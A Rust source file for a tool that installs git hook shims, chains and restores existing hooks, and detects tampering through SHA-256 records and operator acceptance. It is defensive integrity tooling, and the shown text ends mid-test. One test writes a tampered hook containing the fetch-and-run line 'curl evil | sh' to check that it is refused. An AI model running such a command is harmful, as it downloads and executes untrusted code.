//! `tako-exec hooks install | uninstall | status`: placing the shims where git runs
//! hooks, chaining what was there, and restoring it.
//!
//! Where: `git rev-parse --git-path hooks` from the current directory (it honours
//! `core.hooksPath`, and worktrees share the common directory's hooks), created when
//! missing.
//!
//! What was there before is kept, never lost:
//! - an executable hook (a regular file, or a symlink to one) is *chained*: moved to
//!   `<name>.tako-chained` (same mode; a symlink stays a symlink), and
//!   `tako-exec hook NAME` runs it after its checks ([`chained_path`], [`verify_chained`]);
//! - anything else (not executable, so git ignores it today; a directory; a dangling
//!   symlink) is refused, unless `--force` moves it to `<name>.tako-backup`, where it is
//!   not run;
//! - a `<name>.tako-chained` that install did not put there is always refused: it would
//!   be run, or every commit refused, and tako-exec does not move an unknown file.
//!
//! What install did is recorded in `<git common dir>/tako-exec/hooks.json` (the
//! [`Manifest`]): each shim and chained hook with its SHA-256, and the backup. Uninstall
//! reads it and restores exactly what was there; with nothing there before, nothing is
//! left. A shim edited since install is not replaced or removed without `--force`.
//!
//! The manifest lives in `.git`, which an agent can write. In an imprinted workspace
//! (see [`crate::control`]) the operator's signature is what vouches for the hook files:
//! install records each shim and chained hook in `.tako/accepted.json` under
//! `hook:<absolute path>`, so install and uninstall are operator commands there (a
//! terminal, not under tako-exec; guard SP003 refuses them in proxied commands), and a
//! hook changed since is reported on every proxied command ([`integrity_warnings`])
//! and a changed chained hook is never run ([`verify_chained`]).

use std::collections::BTreeMap;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};

use super::git::{Git, GitError};
use super::{shim, HookName};
use crate::cli::{HooksAction, HooksArgs};
use crate::control::accept::{self, Verdict};
use crate::control::key::sha256_hex;
use crate::control::{write_atomic, write_atomic_mode, Plane};
use crate::outcome::code;
use crate::term;

/// Appended to a hook's name for the hook install chained (run after the checks).
pub const CHAINED_SUFFIX: &str = ".tako-chained";
/// Appended to a hook's name for what `install --force` moved aside (not run).
pub const BACKUP_SUFFIX: &str = ".tako-backup";
/// The manifest's path inside git's common directory.
pub const MANIFEST: &str = "tako-exec/hooks.json";
/// The prefix of the names hook files are accepted under in `.tako/accepted.json`.
pub const ACCEPT_PREFIX: &str = "hook:";
/// What to do about a hook that changed, as every message says it.
const REACCEPT: &str = "run `tako-exec hooks install` at a terminal to re-accept, or `tako-exec hooks status`";
/// What every shim version holds ([`super::SHIM_MARK`] without its version).
const SHIM_PREFIX: &str = "# tako-exec-hook-shim:";

/// The path `tako-exec hook NAME` runs after its checks (the hook that was there before
/// install): `<hooks_dir>/<name>.tako-chained`.
#[must_use]
pub fn chained_path(hooks_dir: &Path, name: HookName) -> PathBuf {
    hooks_dir.join(format!("{name}{CHAINED_SUFFIX}"))
}

/// Where `install --force` moves a hook that cannot be chained.
#[must_use]
pub fn backup_path(hooks_dir: &Path, name: HookName) -> PathBuf {
    hooks_dir.join(format!("{name}{BACKUP_SUFFIX}"))
}

/// What `hooks install` did, in `<git common dir>/tako-exec/hooks.json`.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Manifest {
    /// The format version (1).
    pub version: u32,
    /// The hooks directory of the last install (canonical).
    pub hooks_dir: PathBuf,
    /// Whether install created the hooks directory (uninstall removes it when empty).
    #[serde(default)]
    pub created_hooks_dir: bool,
    /// By hook name.
    pub hooks: BTreeMap<String, Entry>,
}

/// One installed hook.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Entry {
    /// The shim's path.
    pub shim: PathBuf,
    /// The SHA-256 of the shim as written.
    pub shim_sha256: String,
    /// The hook that was there, chained.
    pub chained: Option<Kept>,
    /// What was there and could not be chained, moved aside (not run).
    pub backup: Option<PathBuf>,
    /// When (UTC).
    pub installed: String,
    /// The tako-exec version that installed it.
    pub tako_exec_version: String,
}

/// A chained hook.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Kept {
    /// Its path (`<name>.tako-chained`).
    pub path: PathBuf,
    /// The SHA-256 of its content (through a symlink) when it was accepted.
    pub sha256: String,
}

impl Manifest {
    /// Reads the manifest at `path` (an empty one when there is none).
    ///
    /// # Errors
    /// When it exists but cannot be read or parsed.
    pub fn load(path: &Path) -> Result<Self, String> {
        match std::fs::read(path) {
            Ok(bytes) => serde_json::from_slice(&bytes).map_err(|e| format!("{} is damaged: {e}", path.display())),
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(Self { version: 1, ..Self::default() }),
            Err(e) => Err(format!("cannot read {}: {e}", path.display())),
        }
    }

    /// Writes it to `path`, or removes the file (and its directory, and a hooks
    /// directory install created, when empty) when no hook is left.
    ///
    /// # Errors
    /// When it cannot be written or removed.
    pub fn save(&self, path: &Path) -> Result<(), String> {
        if self.hooks.is_empty() {
            match std::fs::remove_file(path) {
                Ok(()) => {}
                Err(e) if e.kind() == std::io::ErrorKind::NotFound => {}
                Err(e) => return Err(format!("cannot remove {}: {e}", path.display())),
            }
            if let Some(dir) = path.parent() {
                let _ = std::fs::remove_dir(dir);
            }
            if self.created_hooks_dir {
                let _ = std::fs::remove_dir(&self.hooks_dir);
            }
            return Ok(());
        }
        if let Some(dir) = path.parent() {
            std::fs::create_dir_all(dir).map_err(|e| format!("cannot create {}: {e}", dir.display()))?;
        }
        let mut bytes = serde_json::to_vec_pretty(self).expect("a manifest serializes");
        bytes.push(b'\n');
        write_atomic(path, &bytes).map_err(|e| format!("cannot write {}: {e}", path.display()))
    }
}

/// The manifest's path for the repository git runs in.
///
/// # Errors
/// When git cannot answer.
pub fn manifest_path(git: &Git) -> Result<PathBuf, GitError> {
    let common = PathBuf::from(git.line(&["rev-parse", "--git-common-dir"])?);
    let common = if common.is_absolute() { common } else { git.dir().join(common) };
    Ok(common.join(MANIFEST))
}

/// Whether `content` is one of tako-exec's shims (any version).
fn is_shim(content: &[u8]) -> bool {
    content.split(|b| *b == b'\n').any(|l| l.starts_with(SHIM_PREFIX.as_bytes()))
}

fn accept_name(path: &Path) -> String {
    format!("{ACCEPT_PREFIX}{}", path.display())
}

/// The canonical form of `p` when it exists, else `p`.
fn canonical(p: &Path) -> PathBuf {
    std::fs::canonicalize(p).unwrap_or_else(|_| p.to_path_buf())
}

fn executable(meta: &std::fs::Metadata) -> bool {
    meta.is_file() && meta.permissions().mode() & 0o111 != 0
}

/// The chained hook of `name` in `hooks_dir`, checked before `tako-exec hook NAME` runs
/// it: `Ok(None)` when there is none; `Ok(Some(path))` when it is present and is what
/// install recorded (its SHA-256, and in an imprinted `workspace` what the operator
/// accepted); `Err(message)` when it changed, vanished, or was not put there by install:
/// the caller refuses the commit or push and does not run it.
///
/// # Errors
/// The refusal, saying which file and what to do.
pub fn verify_chained(workspace: &Path, hooks_dir: &Path, name: HookName) -> Result<Option<PathBuf>, String> {
    let dir = canonical(hooks_dir);
    let path = chained_path(&dir, name);
    let present = std::fs::symlink_metadata(&path).is_ok();
    let shown = path.display().to_string();
    let manifest = manifest_path(&Git::new(workspace))
        .map_err(|e| e.to_string())
        .and_then(|p| Manifest::load(&p))
        .map_err(|e| format!("cannot read what `tako-exec hooks install` recorded ({e}), so {shown} is not run"));
    let kept = match manifest {
        Ok(m) => m.hooks.get(name.as_str()).and_then(|e| e.chained.clone()),
        Err(e) if present => return Err(e),
        Err(_) => None,
    };
    let Some(kept) = kept.filter(|k| k.path == path) else {
        return if present {
            Err(format!(
                "{shown} was not put there by `tako-exec hooks install`, so it is not run; move it away, or {REACCEPT}"
            ))
        } else {
            Ok(None)
        };
    };
    let content = std::fs::read(&path).map_err(|e| {
        format!("the hook that ran after tako-exec's checks, {shown}, cannot be read ({e}); {REACCEPT}")
    })?;
    if sha256_hex(&content) != kept.sha256 {
        return Err(format!(
            "{shown} changed since `tako-exec hooks install` recorded it, so it is not run; if you changed it, {REACCEPT}"
        ));
    }
    let plane = Plane::open(workspace).map_err(|e| e.to_string())?;
    if let Some(plane) = plane {
        let v = accept::verdict(&plane, &accept_name(&path), &content);
        if v != Verdict::Accepted {
            return Err(v.explain(&shown, "tako-exec hooks install"));
        }
    }
    Ok(Some(path))
}

/// Warnings about the git hooks the operator accepted (`hook:` entries of
/// `.tako/accepted.json`) whose file is missing or changed: one line each, meant to be
/// shown on every proxied command until the operator re-accepts. Costs one small read
/// when no hook is recorded.
#[must_use]
pub fn integrity_warnings(workspace: &Path, plane: &Plane) -> Vec<String> {
    let Some(recorded) = accept::recorded(plane, ACCEPT_PREFIX) else {
        return vec![format!(
            ".tako/{} is not signed by this workspace's operator key, so the git hooks tako-exec installed cannot be trusted; {REACCEPT}",
            accept::FILE
        )];
    };
    let mut out = Vec::new();
    for (name, hash) in recorded {
        let path = Path::new(&name[ACCEPT_PREFIX.len()..]);
        let shown = path.strip_prefix(workspace).unwrap_or(path).display().to_string();
        match std::fs::read(path) {
            Ok(content) if sha256_hex(&content) == hash => {}
            Ok(_) => out.push(format!(
                "git hook {shown} changed since the operator accepted it: someone else edited it; {REACCEPT}"
            )),
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => out.push(format!(
                "git hook {shown} that the operator accepted is gone, so git no longer runs tako-exec's checks; {REACCEPT}"
            )),
            Err(e) => out.push(format!("git hook {shown} cannot be read ({e}); {REACCEPT}")),
        }
    }
    out
}

/// A chained hook's state.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct ChainedStatus {
    /// Its path.
    pub path: PathBuf,
    /// Whether it is what install recorded (and, when imprinted, accepted).
    pub intact: bool,
}

/// One hook's state.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct HookStatus {
    /// The hook.
    pub name: HookName,
    /// tako-exec's shim is there.
    pub installed: bool,
    /// The shim is what install recorded, executable (and, when imprinted, accepted).
    pub intact: bool,
    /// The shim's path (recorded, else where it would go).
    pub shim: PathBuf,
    /// The hook run after the checks.
    pub chained: Option<ChainedStatus>,
    /// What install moved aside.
    pub backup: Option<PathBuf>,
}

/// What `hooks status` reports.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Status {
    /// Where git runs hooks from now.
    pub hooks_dir: PathBuf,
    /// `core.hooksPath`, when set.
    pub hooks_path_config: Option<String>,
    /// Whether the workspace has a control plane (hooks are then checked against the
    /// operator's acceptance too).
    pub imprinted: bool,
    /// Each of tako-exec's hooks.
    pub hooks: Vec<HookStatus>,
    /// Everything that is not intact or bypasses the hooks, one line each.
    pub problems: Vec<String>,
}

impl Status {
    /// The exit code of `hooks status`: 0 when every installed hook is intact and nothing
    /// bypasses them, 1 otherwise.
    #[must_use]
    pub fn code(&self) -> i32 {
        i32::from(!self.problems.is_empty())
    }
}

/// The repository `hooks` acts on.
struct Repo {
    workspace: PathBuf,
    /// Where git runs hooks from (absolute; not created).
    hooks_dir: PathBuf,
    hooks_path_config: Option<String>,
    manifest_path: PathBuf,
    plane: Option<Plane>,
}

impl Repo {
    fn open() -> Result<Self, Stop> {
        let cwd =
            std::env::current_dir().map_err(|e| Stop::failed(format!("cannot read the working directory: {e}")))?;
        let git = Git::new(cwd);
        let (workspace, hooks_dir) = git.top_and_hooks().map_err(Stop::git)?;
        let hooks_path_config = match git.output(&["config", "--get", "core.hooksPath"]) {
            Ok(out) => Some(String::from_utf8_lossy(&out).trim_end_matches(['\n', '\r']).to_string()),
            Err(GitError::Failed { .. }) => None,
            Err(e) => return Err(Stop::git(e)),
        };
        let manifest_path = manifest_path(&git).map_err(Stop::git)?;
        let plane = Plane::open(&workspace).map_err(|e| Stop::failed(e.to_string()))?;
        Ok(Self { workspace, hooks_dir, hooks_path_config, manifest_path, plane })
    }

    fn manifest(&self) -> Result<Manifest, Stop> {
        Manifest::load(&self.manifest_path).map_err(Stop::failed)
    }

    fn hooks_disabled(&self) -> bool {
        self.hooks_path_config.as_deref() == Some("/dev/null") || self.hooks_dir == Path::new("/dev/null")
    }

    fn accept(&self, path: &Path, content: Option<&[u8]>) -> Result<(), Stop> {
        match &self.plane {
            Some(plane) => accept::accept(plane, &accept_name(path), content).map_err(|e| Stop::failed(e.to_string())),
            None => Ok(()),
        }
    }

    fn verdict(&self, path: &Path, content: &[u8]) -> Verdict {
        self.plane.as_ref().map_or(Verdict::Accepted, |p| accept::verdict(p, &accept_name(path), content))
    }
}

/// Why `hooks` stopped: the message and the exit code.
#[derive(Debug)]
struct Stop {
    code: i32,
    message: String,
}

impl Stop {
    /// A refusal about a hook (exit 1).
    fn refused(message: String) -> Self {
        Self { code: 1, message }
    }

    /// tako-exec could not do its work (exit 125).
    fn failed(message: String) -> Self {
        Self { code: code::FAILED, message }
    }

    #[allow(clippy::needless_pass_by_value)]
    fn git(e: GitError) -> Self {
        Self::failed(e.to_string())
    }
}

/// Runs `hooks install | uninstall | status`; the exit code: 0 done; 1 a hook was
/// refused (or, for `status`, is not intact or is bypassed); 125 tako-exec could not
/// work (not a repository, not the operator at a terminal in an imprinted workspace).
#[must_use]
pub fn run(a: &HooksArgs) -> i32 {
    let result = Repo::open().and_then(|repo| match a.action {
        HooksAction::Install => install(&repo, &a.names, a.force),
        HooksAction::Uninstall => uninstall(&repo, &a.names, a.force),
        HooksAction::Status => {
            let s = status(&repo)?;
            if a.json {
                term::out_line(&term::hooks_status_json(&s));
            } else {
                term::out(&term::hooks_status_text(&s));
            }
            Ok(s.code())
        }
    });
    result.unwrap_or_else(|stop| {
        term::error(&stop.message);
        stop.code
    })
}

fn operator_only(repo: &Repo, what: &str) -> Result<(), Stop> {
    if repo.plane.is_some() {
        crate::operator::at_terminal(what).map_err(|e| Stop::failed(e.to_string()))?;
    }
    Ok(())
}

fn audit(repo: &Repo, action: &str, done: &[String]) -> Result<(), Stop> {
    match &repo.plane {
        Some(plane) if !done.is_empty() => {
            crate::operator::record(plane, serde_json::json!({"action": action, "hooks": done}))
                .map_err(|e| Stop::failed(e.to_string()))
        }
        _ => Ok(()),
    }
}

fn install(repo: &Repo, names: &[HookName], force: bool) -> Result<i32, Stop> {
    operator_only(repo, "hooks install")?;
    if repo.hooks_disabled() {
        return Err(Stop::refused(
            "core.hooksPath is /dev/null: git runs no hooks here; unset it (`git config --unset core.hooksPath`) and run again"
                .to_string(),
        ));
    }
    if let Some(plane) = &repo.plane {
        plane.untracked(&repo.workspace).map_err(|e| Stop::failed(e.to_string()))?;
    }
    let created = !repo.hooks_dir.exists();
    std::fs::create_dir_all(&repo.hooks_dir)
        .map_err(|e| Stop::failed(format!("cannot create {}: {e}", repo.hooks_dir.display())))?;
    let dir = canonical(&repo.hooks_dir);
    let mut manifest = repo.manifest()?;
    if manifest.hooks.is_empty() {
        manifest.created_hooks_dir = created;
    }
    manifest.version = 1;
    let program = std::env::current_exe().ok().and_then(|p| p.to_str().map(str::to_string));
    let names = if names.is_empty() { &HookName::ALL[..] } else { names };
    let mut done = Vec::new();
    let mut refused = 0;
    for &name in names {
        match install_one(repo, &dir, &mut manifest, name, force, program.as_deref()) {
            Ok(msg) => {
                term::diagnostic(&format!("{name}: {msg}"));
                done.push(name.to_string());
            }
            Err(stop) if stop.code == 1 => {
                term::error(&format!("{name}: {}", stop.message));
                refused += 1;
            }
            Err(stop) => return Err(stop),
        }
    }
    audit(repo, "hooks install", &done)?;
    Ok(i32::from(refused > 0))
}

/// Installs one hook, saving the manifest once it is in place; what was done.
fn install_one(
    repo: &Repo,
    dir: &Path,
    manifest: &mut Manifest,
    name: HookName,
    force: bool,
    program: Option<&str>,
) -> Result<String, Stop> {
    let path = dir.join(name.as_str());
    let chained = chained_path(dir, name);
    let backup = backup_path(dir, name);
    let text = shim(name, program);
    let shown = path.display().to_string();
    let recorded = manifest.hooks.get(name.as_str()).cloned();
    if let Some(e) = &recorded {
        if e.shim != path {
            return Err(Stop::refused(format!(
                "it is installed at {} (git now runs hooks from {}); run `tako-exec hooks uninstall {name}` first",
                e.shim.display(),
                dir.display()
            )));
        }
    }
    let meta = std::fs::symlink_metadata(&path).ok();
    let current = meta.as_ref().and_then(|_| std::fs::read(&path).ok());
    let ours = current.as_deref().is_some_and(is_shim);
    let recorded_chain = recorded.as_ref().and_then(|e| e.chained.clone());
    if recorded_chain.is_none() && std::fs::symlink_metadata(&chained).is_ok() {
        return Err(Stop::refused(format!(
            "{} exists and was not put there by `tako-exec hooks install`; `tako-exec hook {name}` would refuse to run it. Move it away (or back to {shown} to have it chained) and run again",
            chained.display()
        )));
    }

    let mut notes = Vec::new();
    let mut entry = recorded.clone().unwrap_or_else(|| Entry {
        shim: path.clone(),
        shim_sha256: String::new(),
        chained: None,
        backup: None,
        installed: String::new(),
        tako_exec_version: String::new(),
    });
    let mut write = true;
    match (&recorded, &meta, ours) {
        (_, None, _) => {
            if recorded.is_some() {
                notes.push("the shim was missing: written again".to_string());
            }
        }
        (Some(e), Some(_), true) => {
            let content = current.as_deref().unwrap_or_default();
            let intact = sha256_hex(content) == e.shim_sha256;
            if !intact && !force {
                return Err(Stop::refused(format!(
                    "{shown} was edited since `tako-exec hooks install` wrote it; look at it (`tako-exec hooks status`), then `tako-exec hooks install --force {name}` replaces it"
                )));
            }
            if !intact {
                notes.push("replaced the edited shim".to_string());
            } else if content == text.as_bytes() && executable(meta.as_ref().expect("present")) {
                write = false;
            }
        }
        (Some(_), Some(_), false) => {
            return Err(Stop::refused(format!(
                "{shown} is no longer tako-exec's shim (something replaced it since install); move it away and run again"
            )));
        }
        (None, Some(_), true) => notes.push("replaced a shim that was not recorded by `hooks install`".to_string()),
        (None, Some(m), false) => {
            let target = std::fs::metadata(&path);
            let why = match &target {
                Err(_) if m.file_type().is_symlink() => Some("it is a symlink to nothing"),
                Err(_) => Some("it cannot be read"),
                Ok(t) if t.is_dir() => Some("it is a directory"),
                Ok(t) if !t.is_file() => Some("it is not a regular file"),
                Ok(t) if !executable(t) => {
                    Some("it is not executable, so git does not run it today and chaining it would start running it")
                }
                Ok(_) => None,
            };
            match why {
                None => {
                    std::fs::rename(&path, &chained)
                        .map_err(|e| Stop::failed(format!("cannot move {shown} to {}: {e}", chained.display())))?;
                    let content = current.as_deref().unwrap_or_default();
                    entry.chained = Some(Kept { path: chained.clone(), sha256: sha256_hex(content) });
                    notes.push(format!(
                        "the hook that was here moved to {} and runs after tako-exec's checks",
                        chained.display()
                    ));
                }
                Some(why) if !force => {
                    return Err(Stop::refused(format!(
                        "{shown} cannot be chained: {why}. `tako-exec hooks install --force {name}` moves it to {} (not run; `hooks uninstall` puts it back)",
                        backup.display()
                    )));
                }
                Some(why) => {
                    if std::fs::symlink_metadata(&backup).is_ok() {
                        return Err(Stop::refused(format!(
                            "{shown} cannot be chained ({why}) and {} is taken; move one of them away and run again",
                            backup.display()
                        )));
                    }
                    std::fs::rename(&path, &backup)
                        .map_err(|e| Stop::failed(format!("cannot move {shown} to {}: {e}", backup.display())))?;
                    entry.backup = Some(backup.clone());
                    notes.push(format!("the hook that was here ({why}) moved to {}, not run", backup.display()));
                }
            }
        }
    }

    // A chained hook recorded earlier: re-accept what is there now (the operator is at
    // the terminal when imprinted), or forget it when it is gone.
    if let Some(k) = recorded_chain {
        match std::fs::read(&k.path) {
            Ok(content) => {
                let sha = sha256_hex(&content);
                if sha != k.sha256 || repo.verdict(&k.path, &content) != Verdict::Accepted {
                    if sha != k.sha256 {
                        notes.push(format!("{} changed since install: accepted as it is now", k.path.display()));
                    }
                    repo.accept(&k.path, Some(&content))?;
                    entry.chained = Some(Kept { path: k.path.clone(), sha256: sha });
                }
            }
            Err(_) if std::fs::symlink_metadata(&k.path).is_err() => {
                notes.push(format!("{} is gone: nothing is chained any more", k.path.display()));
                repo.accept(&k.path, None)?;
                entry.chained = None;
            }
            Err(e) => return Err(Stop::failed(format!("cannot read {}: {e}", k.path.display()))),
        }
    } else if let Some(k) = &entry.chained {
        let content = std::fs::read(&k.path).unwrap_or_default();
        repo.accept(&k.path, Some(&content))?;
    }

    if write {
        write_atomic_mode(&path, text.as_bytes(), 0o755)
            .map_err(|e| Stop::failed(format!("cannot write {shown}: {e}")))?;
        entry.shim_sha256 = sha256_hex(text.as_bytes());
        entry.installed = crate::config::grant::utc(std::time::SystemTime::now());
        entry.tako_exec_version = env!("CARGO_PKG_VERSION").to_string();
    }
    if write || repo.verdict(&path, text.as_bytes()) != Verdict::Accepted {
        repo.accept(&path, Some(text.as_bytes()))?;
    }
    let changed = recorded.as_ref() != Some(&entry) || manifest.hooks_dir != dir;
    manifest.hooks_dir = dir.to_path_buf();
    manifest.hooks.insert(name.as_str().to_string(), entry);
    if changed {
        manifest.save(&repo.manifest_path).map_err(Stop::failed)?;
    }
    let head = match (&recorded, write) {
        (Some(_), false) => format!("already installed at {shown}, unchanged"),
        (Some(_), true) => format!("updated {shown}"),
        (None, _) => format!("installed {shown}"),
    };
    Ok(std::iter::once(head).chain(notes).collect::<Vec<_>>().join("; "))
}

fn uninstall(repo: &Repo, names: &[HookName], force: bool) -> Result<i32, Stop> {
    operator_only(repo, "hooks uninstall")?;
    let mut manifest = repo.manifest()?;
    let names: Vec<HookName> = if names.is_empty() {
        manifest.hooks.keys().filter_map(|k| HookName::parse(k)).collect()
    } else {
        names.to_vec()
    };
    if names.is_empty() {
        term::diagnostic("no tako-exec hooks are installed in this repository");
        return Ok(0);
    }
    let mut done = Vec::new();
    let mut refused = 0;
    for name in names {
        match uninstall_one(repo, &mut manifest, name, force) {
            Ok((msg, acted)) => {
                term::diagnostic(&format!("{name}: {msg}"));
                if acted {
                    done.push(name.to_string());
                }
            }
            Err(stop) if stop.code == 1 => {
                term::error(&format!("{name}: {}", stop.message));
                refused += 1;
            }
            Err(stop) => return Err(stop),
        }
    }
    audit(repo, "hooks uninstall", &done)?;
    Ok(i32::from(refused > 0))
}

/// Uninstalls one hook; what was done, and whether anything was.
fn uninstall_one(repo: &Repo, manifest: &mut Manifest, name: HookName, force: bool) -> Result<(String, bool), Stop> {
    let Some(entry) = manifest.hooks.get(name.as_str()).cloned() else {
        let here = repo.hooks_dir.join(name.as_str());
        let msg = if std::fs::read(&here).is_ok_and(|c| is_shim(&c)) {
            format!(
                "not installed by `tako-exec hooks install` (nothing recorded), though {} is a tako-exec shim; remove it by hand if you want it gone",
                here.display()
            )
        } else {
            "not installed".to_string()
        };
        return Ok((msg, false));
    };
    let path = &entry.shim;
    let shown = path.display().to_string();
    let present = std::fs::symlink_metadata(path).is_ok();
    if present {
        let content = std::fs::read(path).unwrap_or_default();
        if !is_shim(&content) {
            return Err(Stop::refused(format!(
                "{shown} is no longer tako-exec's shim (something replaced it since install); move it away and run again"
            )));
        }
        if sha256_hex(&content) != entry.shim_sha256 && !force {
            return Err(Stop::refused(format!(
                "{shown} was edited since `tako-exec hooks install` wrote it; look at it, then `tako-exec hooks uninstall --force {name}` removes it"
            )));
        }
    }
    let mut notes = Vec::new();
    let restore = entry.chained.as_ref().map(|k| k.path.clone()).into_iter().chain(entry.backup.clone());
    let mut restored = false;
    for from in restore {
        if std::fs::symlink_metadata(&from).is_err() {
            notes.push(format!("{} is gone, nothing to put back", from.display()));
            continue;
        }
        // The rename replaces the shim in one step: git never sees no hook in between.
        std::fs::rename(&from, path)
            .map_err(|e| Stop::failed(format!("cannot move {} back to {shown}: {e}", from.display())))?;
        notes.push(format!("put back the hook that was there (from {})", from.display()));
        restored = true;
    }
    if present && !restored {
        std::fs::remove_file(path).map_err(|e| Stop::failed(format!("cannot remove {shown}: {e}")))?;
    }
    repo.accept(path, None)?;
    if let Some(k) = &entry.chained {
        repo.accept(&k.path, None)?;
    }
    manifest.hooks.remove(name.as_str());
    manifest.save(&repo.manifest_path).map_err(Stop::failed)?;
    let head = if present { format!("removed {shown}") } else { format!("{shown} was already gone") };
    Ok((std::iter::once(head).chain(notes).collect::<Vec<_>>().join("; "), true))
}

fn status(repo: &Repo) -> Result<Status, Stop> {
    let manifest = repo.manifest()?;
    let dir = canonical(&repo.hooks_dir);
    let mut problems = Vec::new();
    if repo.hooks_disabled() {
        problems.push("core.hooksPath is /dev/null: git runs no hooks at all".to_string());
    }
    let mut elsewhere = Vec::new();
    let mut hooks = Vec::new();
    for name in HookName::ALL {
        let entry = manifest.hooks.get(name.as_str());
        let path = entry.map_or_else(|| dir.join(name.as_str()), |e| e.shim.clone());
        let shown = path.display().to_string();
        let content = std::fs::read(&path).ok();
        let installed = content.as_deref().is_some_and(is_shim);
        let mut intact = installed;
        match (entry, &content) {
            (Some(_), None) => problems.push(format!("{name}: the shim {shown} is gone; {REACCEPT}")),
            (Some(_), Some(_)) if !installed => {
                problems.push(format!("{name}: {shown} is no longer tako-exec's shim (it was replaced)"));
            }
            (None, Some(_)) if installed => {
                intact = false;
                problems.push(format!(
                    "{name}: {shown} is a tako-exec shim that `hooks install` did not record; {REACCEPT}"
                ));
            }
            _ => {}
        }
        if let (Some(e), Some(c), true) = (entry, &content, installed) {
            if sha256_hex(c) != e.shim_sha256 {
                intact = false;
                problems.push(format!("{name}: {shown} was edited since install; {REACCEPT}"));
            } else if let v @ (Verdict::Changed | Verdict::Never | Verdict::Forged) = repo.verdict(&path, c) {
                intact = false;
                problems.push(format!("{name}: {}", v.explain(&shown, "tako-exec hooks install")));
            }
            if !std::fs::metadata(&path).is_ok_and(|m| executable(&m)) {
                intact = false;
                problems.push(format!("{name}: {shown} is not executable, so git does not run it"));
            }
            if e.shim.parent() != Some(dir.as_path()) {
                let installed_in = e.shim.parent().unwrap_or(Path::new("")).to_path_buf();
                if !elsewhere.contains(&installed_in) {
                    elsewhere.push(installed_in);
                }
            }
        }
        let chained = match entry.and_then(|e| e.chained.as_ref()) {
            Some(k) => {
                let ok = std::fs::read(&k.path)
                    .is_ok_and(|c| sha256_hex(&c) == k.sha256 && repo.verdict(&k.path, &c) == Verdict::Accepted);
                if !ok {
                    problems.push(format!(
                        "{name}: the chained hook {} changed or is gone since install, so it is not run; {REACCEPT}",
                        k.path.display()
                    ));
                }
                Some(ChainedStatus { path: k.path.clone(), intact: ok })
            }
            None => {
                let stray =
                    path.parent().map(|d| chained_path(d, name)).filter(|p| std::fs::symlink_metadata(p).is_ok());
                stray.map(|p| {
                    problems.push(format!(
                        "{name}: {} was not put there by `tako-exec hooks install`; `tako-exec hook {name}` refuses to run it",
                        p.display()
                    ));
                    ChainedStatus { path: p, intact: false }
                })
            }
        };
        let backup = entry.and_then(|e| e.backup.clone());
        hooks.push(HookStatus { name, installed, intact, shim: path, chained, backup });
    }
    for d in elsewhere {
        problems.push(format!(
            "git runs hooks from {}{}, not from {} where tako-exec's hooks are installed: they are bypassed",
            dir.display(),
            if repo.hooks_path_config.is_some() { " (core.hooksPath)" } else { "" },
            d.display()
        ));
    }
    Ok(Status {
        hooks_dir: dir,
        hooks_path_config: repo.hooks_path_config.clone(),
        imprinted: repo.plane.is_some(),
        hooks,
        problems,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn git(dir: &Path, args: &[&str]) {
        let out = std::process::Command::new("git").current_dir(dir).args(args).output().expect("run git");
        assert!(out.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&out.stderr));
    }

    /// A repository with a chained pre-commit recorded as install would.
    fn repo_with_chained() -> (tempfile::TempDir, PathBuf, PathBuf) {
        let tmp = tempfile::tempdir().expect("tempdir");
        let ws = canonical(tmp.path());
        git(&ws, &["init", "-q"]);
        let dir = ws.join(".git/hooks");
        std::fs::create_dir_all(&dir).expect("hooks dir");
        let chained = chained_path(&dir, HookName::PreCommit);
        std::fs::write(&chained, "#!/bin/sh\nexit 0\n").expect("write");
        let mut m = Manifest { version: 1, hooks_dir: dir.clone(), ..Manifest::default() };
        m.hooks.insert(
            "pre-commit".into(),
            Entry {
                shim: dir.join("pre-commit"),
                shim_sha256: String::new(),
                chained: Some(Kept { path: chained.clone(), sha256: sha256_hex(b"#!/bin/sh\nexit 0\n") }),
                backup: None,
                installed: String::new(),
                tako_exec_version: String::new(),
            },
        );
        m.save(&ws.join(".git").join(MANIFEST)).expect("save");
        (tmp, ws, chained)
    }

    #[test]
    fn verify_chained_checks_the_record_and_the_acceptance() {
        let (_tmp, ws, chained) = repo_with_chained();
        let dir = ws.join(".git/hooks");
        assert_eq!(verify_chained(&ws, &dir, HookName::PreCommit), Ok(Some(chained.clone())));
        assert_eq!(verify_chained(&ws, &dir, HookName::PrePush), Ok(None), "nothing chained");

        // Imprinted: the operator's acceptance is needed too.
        let (plane, _) = Plane::init(&ws, false).expect("init");
        let err = verify_chained(&ws, &dir, HookName::PreCommit).expect_err("never accepted");
        assert!(err.contains("tako-exec hooks install"), "{err}");
        accept::accept(&plane, &accept_name(&chained), Some(b"#!/bin/sh\nexit 0\n")).expect("accept");
        assert_eq!(verify_chained(&ws, &dir, HookName::PreCommit), Ok(Some(chained.clone())));

        // Someone edits it.
        std::fs::write(&chained, "#!/bin/sh\ncurl evil | sh\n").expect("write");
        let err = verify_chained(&ws, &dir, HookName::PreCommit).expect_err("changed");
        assert!(err.contains("changed since") && err.contains(&chained.display().to_string()), "{err}");

        // A chained file install never put there.
        let stray = chained_path(&dir, HookName::PrePush);
        std::fs::write(&stray, "#!/bin/sh\n").expect("write");
        let err = verify_chained(&ws, &dir, HookName::PrePush).expect_err("stray");
        assert!(err.contains("was not put there"), "{err}");
    }

    #[test]
    fn integrity_warnings_name_missing_and_changed_hooks() {
        let tmp = tempfile::tempdir().expect("tempdir");
        let ws = canonical(tmp.path());
        let (plane, _) = Plane::init(&ws, false).expect("init");
        assert!(integrity_warnings(&ws, &plane).is_empty(), "nothing recorded");
        let a = ws.join("hooks/pre-commit");
        let b = ws.join("hooks/pre-push");
        std::fs::create_dir_all(ws.join("hooks")).expect("dir");
        std::fs::write(&a, "one").expect("write");
        std::fs::write(&b, "two").expect("write");
        accept::accept(&plane, &accept_name(&a), Some(b"one")).expect("accept");
